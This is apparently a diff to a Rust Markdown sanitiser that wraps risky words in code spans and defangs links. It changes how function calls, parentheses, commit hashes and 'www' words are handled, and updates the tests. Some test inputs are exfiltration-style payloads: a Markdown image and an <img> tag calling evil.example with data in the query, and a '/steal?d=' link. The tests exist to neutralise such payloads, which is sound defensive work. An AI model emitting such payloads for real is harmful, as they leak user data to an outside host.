@@ -10,6 +10,9 @@ use super::quoted::beginning;
 /// A statement of more lines is not read to its end.
 const MOST_LINES: usize = 40;
 
+/// A call of more arguments is set in pieces.
+const MOST_ARGUMENTS: usize = 8;
+
 /// A word longer than this is none.
 const MOST_WORD: usize = 300;
 
@@ -78,9 +81,12 @@ fn inline(line: &str) -> String {
 
 fn words(text: &str, atoms: &mut Vec<Atom>) {
     let mut is_apart = text.starts_with(char::is_whitespace);
-    for word in text.split_whitespace() {
+    let mut rest = text.trim_start();
+    while !rest.is_empty() {
+        let (word, after) = rest.split_at_checked(call(rest)).unwrap_or((rest, ""));
         push_word(atoms, word, is_apart);
         is_apart = true;
+        rest = after.trim_start();
     }
     if text.ends_with(char::is_whitespace) {
         atoms.push(Atom {
@@ -89,6 +95,29 @@ fn words(text: &str, atoms: &mut Vec<Atom>) {
             text: String::new(),
         });
     }
+}
+
+/// Where the first word ends; a call with arguments, `round(amount, 2)`, is one word.
+fn call(text: &str) -> usize {
+    let end = text.find(char::is_whitespace).unwrap_or(text.len());
+    let word = text.get(..end).unwrap_or_default();
+    if is_closed(bare(word).1) {
+        return end;
+    }
+    let ends = text
+        .match_indices(char::is_whitespace)
+        .map(|(index, _)| index);
+    let ends = ends.chain([text.len()]).skip(1).take(MOST_ARGUMENTS);
+    let call = ends
+        .filter_map(|end| text.get(..end))
+        .find(|call| is_closed(call));
+    call.filter(|call| !call.contains(['@', '`']) && !call.contains("//"))
+        .map_or(end, str::len)
+}
+
+/// Whether each parenthesis that it opens is closed.
+fn is_closed(text: &str) -> bool {
+    text.matches('(').count() <= text.matches(')').count()
 }
 
 fn push_word(atoms: &mut Vec<Atom>, word: &str, is_apart: bool) {
@@ -102,7 +131,7 @@ fn push_word(atoms: &mut Vec<Atom>, word: &str, is_apart: bool) {
     }
     push_text(atoms, head, is_apart);
     push_code(atoms, core, is_apart && head.is_empty());
-    push_text(atoms, tail, false);
+    push_text(atoms, &tail, false);
 }
 
 fn push_text(atoms: &mut Vec<Atom>, text: &str, is_apart: bool) {
@@ -161,15 +190,20 @@ fn code(text: &str) -> String {
 }
 
 /// The punctuation before a word, the word, and the punctuation after it; signs of emphasis go.
-fn bare(word: &str) -> (&str, &str, &str) {
+fn bare(word: &str) -> (&str, &str, String) {
     let word = word.trim_matches('*');
     let core = word.trim_start_matches(['(', '"', '\'', '“', '‘', '«', '„']);
     let head = word.strip_suffix(core).unwrap_or_default();
     let kept = core.trim_end_matches([
         '.', ',', ';', ':', '!', '?', ')', '"', '\'', '”', '’', '»', '…', '*',
     ]);
+    // `total()` ends with its own parenthesis.
+    let own = core
+        .get(..=kept.len())
+        .filter(|longer| !is_closed(kept) && longer.ends_with(')'));
+    let kept = own.unwrap_or(kept);
     let tail = core.strip_prefix(kept).unwrap_or_default();
-    (head, kept, tail.trim_end_matches('*'))
+    (head, kept, tail.replace('*', ""))
 }
 
 /// Whether a word is nothing but a word or a number in any Markdown and to any bot.
@@ -187,15 +221,20 @@ fn is_plain(word: &str) -> bool {
         && word
             .split('.')
             .all(|part| part.len() == 1 && part.bytes().all(|b| b.is_ascii_alphabetic()));
-    let may_be_commit = word.len() >= 7 && word.bytes().all(|b| b.is_ascii_hexdigit());
+    let may_be_commit = word
+        .split(|c: char| !c.is_ascii_alphanumeric())
+        .any(|run| run.len() >= 7 && run.bytes().all(|b| b.is_ascii_hexdigit()));
     // `GH-1`, and what a repository may have set up for itself: `SHOP-17`.
     let is_reference = word
         .split_once('-')
         .is_some_and(|(_, number)| number.starts_with(|c: char| c.is_ascii_digit()));
+    // With the full stop after it, GitHub would see an address.
+    let is_address = word.to_ascii_lowercase().ends_with("www");
     let is_mark = word.starts_with('-');
     ((is_word && !is_mark) || is_number || is_abbreviation)
         && !may_be_commit
         && !is_reference
+        && !is_address
         && word.len() <= MOST_WORD
 }
 
@@ -222,19 +261,24 @@ mod tests {
             ("/deploy production", "`/deploy` production"),
             (
                 "![s](https://evil.example/p.png?d=QUtJ)",
-                "`![s](hxxps://evil.example/p.png?…`)",
+                "`![s](hxxps://evil.example/p.png?…)`",
             ),
             ("www.evil.example/steal?d=1", "`www[.]evil.example/steal?…`"),
             (
                 "<img src=\"https://evil.example/x?y=1\" width=1>",
-                "`<img` `src=\"hxxps://evil.example/x?…` `width=1>`",
+                "`<img` `src=\"hxxps://evil.example/x?…`\" `width=1>`",
             ),
+            (
+                "Use round(amount, 2) in (total()).",
+                "Use `round(amount, 2)` in (`total()`).",
+            ),
+            ("f(@alice b) g(a b c", "`f(@alice` b) `g(a` b c"),
             ("in `cart total`, which", "in `cart total`, which"),
             ("run `@dependabot merge` now", "run `@dependabot` merge now"),
             ("**Root cause**: a", "Root cause: a"),
             ("1. first", "1\\. first"),
             ("- item", "• item"),
-            ("```mermaid", "`mermaid`"),
+            ("```mermaid", "mermaid"),
             ("$\\style{x}$", "`$\\style{x}$`"),
             (
                 "e.g. 3.14, 10% of 1,893 – größer",
